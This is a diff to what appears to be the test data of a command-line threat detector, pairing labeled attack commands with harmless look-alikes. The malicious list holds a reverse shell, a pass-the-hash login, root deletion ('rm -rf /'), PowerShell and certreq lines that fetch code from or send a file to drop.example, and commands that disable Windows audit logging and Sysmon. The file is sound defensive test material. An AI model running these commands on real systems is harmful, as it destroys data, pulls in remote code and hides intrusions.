@@ -198,6 +198,18 @@ export const BAD: readonly Line[] = [
   ['malicious', 'T1550.002', 'evil-winrm -i 10.0.0.9 -u adm -hashes :aad3b435b51404eeaad3b435b51404ee'],
   ['suspicious', 'T1110.003', 'kerbrute userenum -d corp.example users.txt'],
   ['malicious', 'T1059.004', "w'h'o'a'mi; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"],
+  ['malicious', 'T1485', 'rm -rf -- /'],
+  ['malicious', 'T1485', 'rm -r -f /'],
+  ['malicious', 'T1485', 'rm --recursive --force "/"'],
+  ['malicious', 'T1105', 'powershell -c "& ([scriptblock]::Create((irm http://drop.example/a)))"'],
+  ['malicious', 'T1105', 'certreq -Post -config http://drop.example/ C:\\windows\\win.ini a.txt'],
+  ['suspicious', 'T1562.006', 'wevtutil.exe sl Security /e:false'],
+  ['suspicious', 'T1562.006', 'auditpol /clear /y'],
+  ['suspicious', 'T1562.006', 'fltMC.exe unload SysmonDrv'],
+  ['suspicious', 'T1574.006', 'LD_PRELOAD=/tmp/a.so ls -la'],
+  ['suspicious', 'T1053.003', 'crontab /tmp/a'],
+  ['suspicious', 'T1543.001', 'defaults write com.apple.loginwindow LoginHook /tmp/a'],
+  ['suspicious', 'T1548.002', 'C:\\Windows\\System32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}'],
 ];
 
 /** What people and programs do every day. None of it may be called malicious, and next to none suspicious. */
@@ -304,4 +316,11 @@ export const DAILY: readonly string[] = [
   'open -a Safari https://intranet.corp.example',
   'softwareupdate --list',
   'brew upgrade',
+  'rm -rf /var/cache/apt/archives/partial',
+  'rm -r -f ./node_modules',
+  'auditpol /get /category:*',
+  'wevtutil sl Application /ms:104857600',
+  "powershell -Command \"(Get-Date).ToString('yyyy-MM-dd').Replace('-','')\"",
+  "powershell -Command \"'a,b,c' -split ',' -join ';'\"",
+  'crontab /srv/deploy/shop.cron',
 ];
